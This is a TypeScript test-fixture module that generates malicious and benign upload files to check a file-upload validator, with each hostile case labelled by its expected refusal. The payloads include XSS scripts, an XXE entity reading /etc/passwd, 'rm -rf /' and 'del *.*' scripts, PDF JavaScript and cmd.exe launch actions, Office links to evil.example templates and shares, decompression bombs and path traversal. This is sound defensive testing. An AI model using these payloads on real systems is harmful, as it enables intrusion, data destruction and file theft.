/** Files as somebody with bad intentions would bring them, made in code; and good ones of each kind to compare with. */
import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import sharp from "sharp";
import type { FileFault } from "./file-fault";

export type BroughtCase = {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  /** The word of the refusal; "neutralised" where it is kept without what was hidden in it. */
  readonly ends: FileFault | "neutralised";
};

type Part = {
  readonly name: string;
  readonly data?: Buffer | string;
  readonly localName?: string;
  readonly size?: number;
  readonly flags?: number;
  readonly method?: number;
};

export function zipOf(parts: readonly Part[], comment = ""): Buffer {
  const locals: Buffer[] = [];
  const entries: Buffer[] = [];
  let at = 0;
  for (const part of parts) {
    const data = Buffer.from(part.data ?? "<x/>");
    const packed = deflateRawSync(data);
    const [name, localName] = [Buffer.from(part.name), Buffer.from(part.localName ?? part.name)];
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(part.flags ?? 0, 2);
    common.writeUInt16LE(part.method ?? 8, 4);
    common.writeUInt32LE(crc32(data), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(part.size ?? data.length, 18);
    const localHead = Buffer.from(common);
    localHead.writeUInt16LE(localName.length, 22);
    const local = Buffer.concat([Buffer.from("PK\u0003\u0004", "latin1"), localHead, localName, packed]);
    common.writeUInt16LE(name.length, 22);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(at, 10);
    entries.push(Buffer.concat([Buffer.from("PK\u0001\u0002\u0014\u0000", "latin1"), common, tail, name]));
    locals.push(local);
    at += local.length;
  }
  const directory = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.write("PK\u0005\u0006", 0, "latin1");
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([...locals, directory, end, Buffer.from(comment)]);
}

const types = { name: "[Content_Types].xml", data: "<Types/>" };
const word = { name: "word/document.xml", data: "<document>好</document>" };
export const documentOf = (...more: Part[]): Buffer => zipOf([types, word, ...more]);
const relationship = (type: string, target: string, mode = ' TargetMode="External"') => ({
  name: "word/_rels/document.xml.rels",
  data: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
});

export function pdfOf(inside: string, after = "", trailer = ""): Buffer {
  const body = `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${inside} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n`;
  const end = `xref\n0 1\n0000000000 65535 f \ntrailer << /Size 3 /Root 1 0 R ${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(body + end + after, "latin1");
}

export function pdfWithList(list: Buffer, filter = "/Filter /FlateDecode"): Buffer {
  const whole = pdfOf("").toString("latin1");
  const at = whole.indexOf("xref\n0 1");
  const head = `3 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${list.length} >>\nstream\n`;
  return Buffer.concat([
    Buffer.from(whole.slice(0, at) + head, "latin1"),
    list,
    Buffer.from(`\nendstream\nendobj\n${whole.slice(at)}`, "latin1"),
  ]);
}

/** A PNG whose head claims a size that it does not have. */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const named = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    check.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, check]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", head),
    chunk("IDAT", deflateSync(Buffer.alloc(1000))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A JPEG whose head claims a size that it does not have. */
function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
  const claiming = Buffer.from(jpeg);
  const frame = claiming.findIndex((byte, i) => byte === 0xff && [0xc0, 0xc1, 0xc2].includes(claiming[i + 1] ?? 0));
  claiming.writeUInt16BE(height, frame + 5);
  claiming.writeUInt16BE(width, frame + 7);
  return claiming;
}

const canvas = () => sharp({ create: { width: 60, height: 40, channels: 3, background: "#2563a8" } });

/** With a place, a camera and a comment in it. */
export async function photoWithPlace(): Promise<Buffer> {
  return canvas()
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: "SecretCamera", ImageDescription: "canary-description" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "30/1 15/1 20/1",
        GPSLongitudeRef: "E",
        GPSLongitude: "120/1 9/1 12/1",
      },
    })
    .jpeg()
    .toBuffer();
}

export async function goodFiles(): Promise<{ name: string; bytes: Buffer; extension: string }[]> {
  return [
    { name: "a.jpg", bytes: await canvas().jpeg().toBuffer(), extension: "jpg" },
    { name: "a.png", bytes: await canvas().png().toBuffer(), extension: "png" },
    { name: "a.webp", bytes: await canvas().webp().toBuffer(), extension: "webp" },
    { name: "a.pdf", bytes: pdfOf("/OpenAction [2 0 R /Fit]"), extension: "pdf" },
    {
      name: "packed.pdf",
      bytes: pdfWithList(deflateSync(Buffer.from("1 0 << /Type /Page /Annots [] >>"))),
      extension: "pdf",
    },
    { name: "a.docx", bytes: documentOf(relationship("hyperlink", "https://example.org/")), extension: "docx" },
    {
      name: "a.xlsx",
      bytes: zipOf([types, { name: "xl/workbook.xml" }, { name: "xl/printerSettings/printerSettings1.bin" }]),
      extension: "xlsx",
    },
    { name: "a.pptx", bytes: zipOf([types, { name: "ppt/presentation.xml" }]), extension: "pptx" },
    { name: "a.txt", bytes: Buffer.from("三次补正，a < b，每次说的都不一样。\r\n"), extension: "txt" },
    // GB18030, as older programs write it.
    { name: "old.txt", bytes: Buffer.from([0xc4, 0xe3, 0xba, 0xc3, 0xa1, 0xa3]), extension: "txt" },
  ];
}

export async function hostileFiles(): Promise<BroughtCase[]> {
  const [jpeg, png, webp] = await Promise.all([
    canvas().jpeg().toBuffer(),
    canvas().png().toBuffer(),
    canvas().webp().toBuffer(),
  ]);
  const gif = await canvas().gif().toBuffer();
  const tiff = await canvas().tiff().toBuffer();
  const avif = await canvas().avif({ effort: 0 }).toBuffer();
  const script = "<script>alert('canary-script')</script>";
  const packed = (text: string) => deflateSync(Buffer.from(text, "latin1"));
  const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024));
  const cfb = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]);
  const head = (bytes: readonly number[], rest = 300) => Buffer.concat([Buffer.from(bytes), Buffer.alloc(rest)]);
  const heic = head([0, 0, 0, 0x18, ...Buffer.from("ftypheic"), 0, 0, 0, 0, ...Buffer.from("mif1heic")]);
  const bombs = zipOf([{ name: "zeros.txt", data: Buffer.alloc(20 * 1024 * 1024) }]);
  const nested = zipOf([{ name: "a.zip", data: zipOf([{ name: "b.zip", data: bombs }]) }]);
  const tar = Buffer.alloc(1024);
  tar.write("a.txt", 0);
  tar.write("0000644\u00000000000\u00000000000\u000000000000001\u000000000000000\u0000", 100, "latin1");
  tar.write("ustar\u000000", 257, "latin1");
  const all: [string, string, Buffer | string, BroughtCase["ends"]][] = [
    ["an SVG with a script", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, "svg"],
    ["an SVG called a photo", "a.jpg", `<svg onload="alert(1)"></svg>`, "svg"],
    ["an SVG behind an XML head", "a.svg", `<?xml version="1.0"?><svg><script/></svg>`, "svg"],
    ["an SVG behind a mark and blanks", "a.png", `\ufeff \n\t<svg/onload=alert(1)><svg >`, "svg"],
    ["a page", "a.html", `<!doctype html><html>${script}</html>`, "html"],
    ["a page called a text", "a.txt", `<html><body>${script}</body></html>`, "html"],
    ["a page that begins with a comment", "a.txt", `<!-- x --><p>${script}`, "html"],
    ["a text with a script in it", "a.txt", `您好\n${script}`, "html"],
    ["a text with a frame", "a.txt", `x <iframe src="//evil.example">`, "html"],
    ["a text with a picture that runs", "a.txt", `x <img src=x onerror=alert(1)>`, "html"],
    [
      "XML with an entity from elsewhere",
      "a.xml",
      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
      "html",
    ],
    ["an XSL stylesheet", "a.txt", `<?xml version="1.0"?><xsl:stylesheet/>`, "html"],
    ["a ZIP archive", "a.zip", zipOf([{ name: "a.txt", data: "x" }]), "archive"],
    ["a ZIP archive called a document", "a.docx", zipOf([{ name: "a.exe", data: "MZ" }]), "archive"],
    ["an empty ZIP archive", "a.docx", head([0x50, 0x4b, 5, 6], 18), "archive"],
    ["a program for Java", "a.jar", zipOf([{ name: "META-INF/MANIFEST.MF" }, { name: "A.class" }]), "archive"],
    ["a GZIP archive", "a.gz", head([0x1f, 0x8b, 8]), "archive"],
    ["a RAR archive", "a.rar", head([0x52, 0x61, 0x72, 0x21, 0x1a, 7, 1, 0]), "archive"],
    ["a 7z archive", "a.7z", head([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), "archive"],
    ["a BZIP2 archive", "a.bz2", head([0x42, 0x5a, 0x68, 0x39]), "archive"],
    ["an XZ archive", "a.xz", head([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0]), "archive"],
    ["a TAR archive", "a.tar", tar, "archive"],
    ["a Windows program", "a.exe", head([0x4d, 0x5a, 0x90, 0]), "program"],
    ["a Windows program called a PDF", "报告.pdf", head([0x4d, 0x5a, 0x90, 0]), "program"],
    ["a Linux program", "a", head([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), "program"],
    ["a macOS program", "a", head([0xcf, 0xfa, 0xed, 0xfe]), "program"],
    ["a WebAssembly program", "a.wasm", head([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), "program"],
    [
      "a Windows link",
      "a.lnk",
      head([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]),
      "program",
    ],
    ["a shell script", "a.txt", "#!/bin/sh\nrm -rf /\n", "program"],
    ["a batch script", "a.txt", "@echo off\r\ndel *.*\r\n", "program"],
    ["an internet shortcut", "a.url", "[InternetShortcut]\r\nURL=file://x\r\n", "program"],
    ["an old Word document", "a.doc", cfb, "old-office"],
    ["a locked new Word document", "a.docx", cfb, "old-office"],
    ["a rich text document", "a.rtf", "{\\rtf1\\ansi {\\object\\objdata 0105}}", "old-office"],
    ["a document with macros", "a.docx", documentOf({ name: "word/vbaProject.bin" }), "office-macros"],
    [
      "a document whose types say macros",
      "a.docx",
      zipOf([
        { name: types.name, data: `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>` },
        word,
      ]),
      "office-macros",
    ],
    [
      "a workbook with macro sheets",
      "a.xlsx",
      zipOf([types, { name: "xl/workbook.xml" }, { name: "xl/macrosheets/sheet1.xml" }]),
      "office-macros",
    ],
    [
      "a document with a template from elsewhere",
      "a.docx",
      documentOf(relationship("attachedTemplate", "https://evil.example/t.dotm")),
      "office-links",
    ],
    [
      "a document with a picture from elsewhere",
      "a.docx",
      documentOf(relationship("image", "https://evil.example/x.png")),
      "office-links",
    ],
    [
      "a document with a share as a link",
      "a.docx",
      documentOf(relationship("hyperlink", "file://evil/share")),
      "office-links",
    ],
    [
      "a document that hides where it points",
      "a.docx",
      documentOf(relationship("frame", "\\\\evil\\share", "")),
      "office-links",
    ],
    [
      "a document that hides a type in numbers",
      "a.docx",
      documentOf(relationship("image", "https://evil.example/x", ' TargetMode="&#69;xternal"')),
      "office-links",
    ],
    [
      "a document with a bracket in an address",
      "a.docx",
      documentOf(relationship("image", "https://evil.example/a>b")),
      "office-links",
    ],
    [
      "a document with a type inside a value",
      "a.docx",
      documentOf(relationship("frame", "x", ` Note=" Type='/hyperlink'" TargetMode="External"`)),
      "office-links",
    ],
    [
      "a document with words of its own",
      "a.docx",
      documentOf({ name: "word/_rels/a.rels", data: '<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>' }),
      "mixed",
    ],
    [
      "a document with very many half elements",
      "a.docx",
      documentOf({
        name: "word/_rels/a.rels",
        data: `${"<Relationship ".repeat(70_000)}TargetMode="External" Type="x"`,
      }),
      "office-links",
    ],
    [
      "a PDF that pushes a packed list out of sight",
      "a.pdf",
      pdfWithList(packed("1 0 << /S /JavaScript /JS (x) >>"), `/Filter /FlateDecode ${" ".repeat(9000)}`),
      "pdf-active",
    ],
    [
      "a PDF list behind a forecast",
      "a.pdf",
      pdfWithList(packed("x"), "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
      "locked",
    ],
    [
      "a workbook that reads another",
      "a.xlsx",
      zipOf([types, { name: "xl/workbook.xml" }, { name: "xl/externalLinks/externalLink1.xml" }]),
      "office-links",
    ],
    [
      "a document with a file in it",
      "a.docx",
      documentOf({ name: "word/embeddings/oleObject1.bin" }),
      "office-embedded",
    ],
    ["a document with a control", "a.docx", documentOf({ name: "word/activeX/activeX1.xml" }), "office-embedded"],
    [
      "a document with a program in it",
      "a.docx",
      documentOf({ name: "word/media/run.exe", data: "MZ" }),
      "office-embedded",
    ],
    [
      "a document with an unknown lump",
      "a.docx",
      documentOf({ name: "word/media/x.bin", data: "MZ" }),
      "office-embedded",
    ],
    ["a document that leaves its folder", "a.docx", documentOf({ name: "../../etc/cron.d/x.xml" }), "mixed"],
    [
      "a document with two names for one part",
      "a.docx",
      documentOf({ name: "word/a.xml", localName: "word/b.xml" }),
      "mixed",
    ],
    ["a document with one part twice", "a.docx", documentOf({ name: "word/document.xml" }), "mixed"],
    [
      "a document with something behind it",
      "a.docx",
      Buffer.concat([documentOf(), Buffer.from("MZ program")]),
      "mixed",
    ],
    [
      "a document with something before its directory",
      "a.docx",
      Buffer.concat([documentOf().subarray(0, 40), Buffer.from("hidden"), documentOf().subarray(40)]),
      "mixed",
    ],
    ["a locked part", "a.docx", documentOf({ name: "word/x.xml", flags: 1 }), "locked"],
    ["a part that claims 4 GB", "a.docx", documentOf({ name: "word/x.xml", size: 0xfffffff0 }), "unpacks-too-large"],
    [
      "a part that unpacks to 50 MB",
      "a.docx",
      documentOf({ name: "word/x.xml", data: Buffer.alloc(50 * 1024 * 1024) }),
      "unpacks-too-large",
    ],
    [
      "links that are longer than they say",
      "a.docx",
      documentOf({ ...relationship("image", "x", ""), size: 5 }),
      "broken",
    ],
    [
      "five thousand parts",
      "a.docx",
      zipOf([types, word, ...Array.from({ length: 5000 }, (_, i) => ({ name: `word/${i}.xml` }))]),
      "unpacks-too-large",
    ],
    ["half a document", "a.docx", documentOf().subarray(0, 60), "broken"],
    ["a PDF with a script", "a.pdf", pdfOf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "pdf-active"],
    [
      "a PDF with a script under other letters",
      "a.pdf",
      pdfOf("/OpenAction << /S /J#61va#53cript /J#53 (x) >>"),
      "pdf-active",
    ],
    ["a PDF that starts a program", "a.pdf", pdfOf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf-active"],
    [
      "a PDF that sends a form",
      "a.pdf",
      pdfOf("/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>"),
      "pdf-active",
    ],
    ["a PDF with a script as a link", "a.pdf", pdfOf("/A << /S /URI /URI (javascript:alert(1)) >>"), "pdf-active"],
    ["a PDF with an old form engine", "a.pdf", pdfOf("/AcroForm << /XFA 9 0 R >>"), "pdf-active"],
    ["a PDF with a packed script", "a.pdf", pdfWithList(packed("1 0 << /S /JavaScript /JS (x) >>")), "pdf-active"],
    ["a PDF with a file in it", "a.pdf", pdfOf("/Names << /EmbeddedFiles 9 0 R >>"), "pdf-embedded"],
    ["a PDF with a packed file in it", "a.pdf", pdfWithList(packed("1 0 << /Type /EmbeddedFile >>")), "pdf-embedded"],
    ["a PDF with a file on a page", "a.pdf", pdfOf("/Annots [<< /Subtype /FileAttachment >>]"), "pdf-embedded"],
    ["a locked PDF", "a.pdf", pdfOf("", "", "/Encrypt 9 0 R"), "locked"],
    ["a PDF list packed twice", "a.pdf", pdfWithList(packed("x"), "/Filter [/ASCIIHexDecode /FlateDecode]"), "locked"],
    ["a PDF list that unpacks to 40 MB", "a.pdf", pdfWithList(bomb), "unpacks-too-large"],
    ["a PDF with an archive behind it", "a.pdf", Buffer.concat([pdfOf(""), zipOf([{ name: "a.exe" }])]), "mixed"],
    ["a PDF with a page in its head", "a.pdf", pdfOf(`/X (<html>${script})`), "mixed"],
    ["a PDF with much behind its end", "a.pdf", pdfOf("", "x".repeat(5000)), "mixed"],
    ["half a PDF", "a.pdf", pdfOf("").subarray(0, 80), "broken"],
    ["a PNG of 50,000 by 50,000", "a.png", pngClaiming(50_000, 50_000), "picture-too-large"],
    ["a JPEG that claims 50,000 by 50,000", "a.jpg", jpegClaiming(jpeg, 50_000, 50_000), "picture-too-large"],
    ["a photo of an iPhone (HEIC)", "IMG_0001.HEIC", heic, "picture-kind"],
    ["a photo of an iPhone called a JPEG", "IMG_0001.jpg", heic, "picture-kind"],
    ["an archive in an archive in an archive", "a.zip", nested, "archive"],
    ["an archive in a document", "a.docx", documentOf({ name: "word/media/x.zip", data: nested }), "office-embedded"],
    [
      "a document in a document",
      "a.docx",
      documentOf({ name: "word/embeddings/inner.docx", data: documentOf() }),
      "office-embedded",
    ],
    ["a document with a page read in", "a.docx", documentOf(relationship("aFChunk", "x.html", "")), "office-embedded"],
    ["a program of Windows for scripts", "a.hta", `<script language="VBScript">canary-script</script>`, "html"],
    ["a saved page", "a.mht", `MIME-Version: 1.0\n\n<html>${script}</html>`, "html"],
    ["an archive that is a PNG too", "a.png", Buffer.concat([png, nested]), "neutralised"],
    ["a PDF with a script as an action of a page", "a.pdf", pdfOf("/AA << /O << /S /JavaScript >> >>"), "pdf-active"],
    ["a PDF with a film", "a.pdf", pdfOf("/Annots [<< /Subtype /RichMedia >>]"), "pdf-active"],
    ["a PNG of a billion pixels", "a.png", pngClaiming(40_000, 25_000), "picture-too-large"],
    ["a PNG just over the limit", "a.png", pngClaiming(10_000, 5_001), "picture-too-large"],
    ["a PNG that is shorter than it says", "a.png", pngClaiming(3000, 3000), "broken"],
    ["half a JPEG", "a.jpg", jpeg.subarray(0, Math.floor(jpeg.length / 2)), "broken"],
    ["the head of a JPEG", "a.jpg", Buffer.from([0xff, 0xd8, 0xff, 0xe0]), "broken"],
    ["a JPEG with a page behind it", "a.jpg", Buffer.concat([jpeg, Buffer.from(script)]), "neutralised"],
    [
      "a JPEG with an archive behind it",
      "a.jpg",
      Buffer.concat([jpeg, zipOf([{ name: "canary-script.exe" }])]),
      "neutralised",
    ],
    ["a PNG with a page behind it", "a.png", Buffer.concat([png, Buffer.from(script)]), "neutralised"],
    ["a WebP called a page", "a.html", webp, "neutralised"],
    [
      "a JPEG with a script as its description",
      "a.jpg",
      await canvas()
        .withExif({ IFD0: { ImageDescription: script } })
        .jpeg()
        .toBuffer(),
      "neutralised",
    ],
    ["a GIF", "a.gif", gif, "picture-kind"],
    [
      "a GIF that is a script too",
      "a.gif",
      Buffer.concat([Buffer.from("GIF89a/*"), Buffer.from(`*/=1;${script}`)]),
      "picture-kind",
    ],
    ["a TIFF", "a.tif", tiff, "picture-kind"],
    ["an AVIF", "a.avif", avif, "picture-kind"],
    ["an icon", "a.ico", head([0, 0, 1, 0]), "picture-kind"],
    ["nothing", "a.txt", "", "empty"],
    ["more than 10 MB", "a.txt", Buffer.alloc(10 * 1024 * 1024 + 1, 97), "too-large"],
    ["bytes without a kind", "a.txt", Buffer.from(Array.from({ length: 999 }, (_, i) => (i * 7919) % 256)), "unknown"],
    ["a film", "a.mp4", head([0, 0, 0, 0x18, 0x66, 0x74, 0x79, 0x70, 0x6d, 0x70, 0x34, 0x32]), "unknown"],
    ["a text that hides a PDF", "a.txt", `您好 %PDF-1.4 ${"x".repeat(50)}`, "mixed"],
    ["a text in a broken encoding", "a.txt", Buffer.from([0xff, 0x41, 0xff, 0x42, 0xff]), "text-unreadable"],
  ];
  return all.map(([what, name, bytes, ends]) => ({ what, name, bytes: Buffer.from(bytes as Buffer), ends }));
}
